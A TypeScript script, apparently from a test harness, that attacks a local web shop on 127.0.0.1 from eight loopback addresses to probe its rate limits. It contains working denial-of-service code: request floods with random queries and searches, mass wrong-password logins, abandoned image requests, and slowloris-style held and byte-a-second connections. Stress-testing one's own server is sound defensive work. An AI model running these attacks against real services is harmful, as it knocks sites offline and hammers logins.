/**
 * A program that attacks a shop from the eight addresses of one network until it is killed.
 * Usage: attacker.ts <name of the attack> <port of the shop>
 */
import { randomInt, randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { addressOf } from './api.ts';

const [name = '', port = ''] = process.argv.slice(2);
const agent = new Agent({ keepAlive: true, maxSockets: Infinity });
/** Not the address of the visitors, whom the limits of this network must not meet. */
const target = () => ({ host: '127.0.0.1', port: Number(port), localAddress: `127.0.9.${1 + randomInt(8)}` });

interface Call {
  readonly path: string;
  /** ms after which the attacker leaves without the answer. */
  readonly leaveAfterMs?: number;
  /** Sent as JSON by POST. */
  readonly body?: object;
}

async function send({ path, leaveAfterMs = 60_000, body }: Call): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const sent = request({
    ...target(),
    agent,
    path,
    method: body === undefined ? 'GET' : 'POST',
    headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
    signal: AbortSignal.timeout(leaveAfterMs),
  });
  sent.on('response', (answer) => answer.resume().on('close', resolve));
  sent.on('error', () => resolve());
  sent.end(body === undefined ? undefined : JSON.stringify(body));
  await promise;
}

/** Sends one call after another over many connections. */
function flood(connections: number, call: () => Call): void {
  const repeat = async (): Promise<never> => {
    for (;;) {
      await send(call());
      await wait(1);
    }
  };
  for (let count = 0; count < connections; count += 1) void repeat();
}

/** Opens connections, writes to each, reads nothing, and opens again what the shop cuts. */
function hold(connections: number, text: string, everySecond = ''): void {
  const open = (): void => {
    const socket = connect(target(), () => socket.write(text)).pause();
    const timer = setInterval(() => everySecond !== '' && socket.writable && socket.write(everySecond), 1000);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, 100);
    });
  };
  for (let count = 0; count < connections; count += 1) setTimeout(open, count);
}

const head = 'HTTP/1.1\r\nhost: 127.0.0.1\r\n';
const attacks: Readonly<Record<string, () => void>> = {
  'pages with random queries': () => flood(64, () => ({ path: `/?x=${randomUUID()}` })),
  'searches that differ': () =>
    flood(64, () => ({ path: addressOf('getProductByFilter', { query: { filter: randomUUID() } }) })),
  'wrong passwords': () =>
    flood(64, () => ({ path: addressOf('login'), body: { email: `${randomUUID()}@kayal.example`, password: 'x' } })),
  'new pictures, given up': () =>
    flood(150, () => ({ path: `/uploads/${10_001 + randomInt(600)}.webp?w=480`, leaveAfterMs: 200 })),
  '2,000 connections that read nothing': () => hold(2000, `GET / ${head}\r\n`.repeat(24)),
  '2,000 connections of a byte a second': () =>
    hold(2000, `POST ${addressOf('login')} ${head}content-length: 60000\r\n\r\n{`, 'x'),
};

const attack = attacks[name];
if (attack === undefined) process.send?.(Object.keys(attacks));
else attack();
